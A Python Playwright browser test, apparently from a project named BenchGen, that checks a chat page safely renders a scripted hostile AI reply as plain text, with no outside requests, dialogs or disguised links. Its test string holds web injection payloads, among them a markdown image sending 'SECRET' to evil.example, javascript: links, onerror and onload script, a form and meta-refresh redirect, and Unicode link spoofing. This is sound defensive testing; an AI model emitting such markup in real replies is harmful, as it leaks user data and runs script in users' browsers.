"""A hostile model's reply in a real browser: nothing external loads, nothing runs, and every
link shows where it goes."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, expect

from benchgen.core.context import Principal
from tests.agent.scripted import Script, new_conversation, say
from tests.e2e.support import Person, Site

pytestmark = pytest.mark.browser

# Each way a reply could make the page fetch, run or mislead, if it were ever drawn as markup.
HOSTILE = "\n".join(
    [
        "![x](https://evil.example/?q=SECRET) [docs](javascript:alert(1))",
        '<img src="https://evil.example/i.png" onerror="alert(1)"><iframe src="//evil.example">',
        '<form action="https://evil.example/"><button>Approve</button></form>',
        '<a href="javascript:alert(1)">/settings/tokens</a> <a href="data:text/html,x">data</a>',
        "<style>body{background:url(https://evil.example/bg)}</style><script>alert(1)</script>",
        '<svg onload="alert(1)"></svg> <meta http-equiv="refresh" content="0;https://evil.example">',
        "Delete it at \u202e/settings/tokens\u202c, or https://evil.example\u200b/runs/x",
        "x" * 3000,
    ]
)


def test_a_hostile_reply_loads_runs_and_disguises_nothing(
    signed_in: Page, person: Person, site: Site
) -> None:
    page = signed_in
    conversation = new_conversation(site.runtime, Principal.web(person.id))
    say(site.runtime, Principal.web(person.id), conversation, Script([HOSTILE]).brain(), "hi")
    elsewhere: list[str] = []
    page.on("request", lambda r: r.url.startswith(site.url) or elsewhere.append(r.url))
    page.on("dialog", lambda dialog: elsewhere.append(f"dialog: {dialog.message}"))
    page.goto(f"/chat/{conversation}")

    reply = page.locator(".message.agent").last
    expect(reply).to_contain_text("![x](https://evil.example/?q=SECRET)")
    expect(reply).to_contain_text("<script>alert(1)</script>")
    # The only markup is a link BenchGen draws itself: to this site's page it is named by.
    assert reply.locator("*").count() == 1
    link = reply.get_by_role("link")
    assert link.get_attribute("href") == "/settings/tokens" == link.inner_text()
    expect(reply).to_contain_text("\\u202e/settings/tokens\\u202c")
    assert "\u202e" not in reply.inner_text()
    # The long line wraps: the page does not widen past the window.
    width = page.evaluate("() => document.documentElement.scrollWidth")
    assert page.viewport_size is not None and width <= page.viewport_size["width"]
    page.wait_for_load_state("networkidle")
    assert elsewhere == []
